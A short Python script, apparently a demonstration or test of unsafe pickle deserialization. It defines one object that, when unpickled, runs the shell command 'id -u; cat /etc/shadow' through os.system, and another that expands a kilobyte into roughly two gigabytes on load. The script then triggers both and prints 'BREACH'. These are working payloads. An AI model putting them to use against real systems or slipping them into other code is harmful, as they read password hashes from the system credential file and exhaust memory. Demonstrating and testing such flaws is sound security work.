# Reads back an object that runs commands as it is read, and one that grows from few bytes to very many.
import os
import pickle


class RunsCommands:
    def __reduce__(self):
        return os.system, ("id -u; cat /etc/shadow",)


class Grows:
    def __reduce__(self):
        return bytes.__mul__, (b"x" * 1000, 1 << 21)


pickle.loads(pickle.dumps(RunsCommands()))
print("BREACH", len(pickle.loads(pickle.dumps(Grows()))))
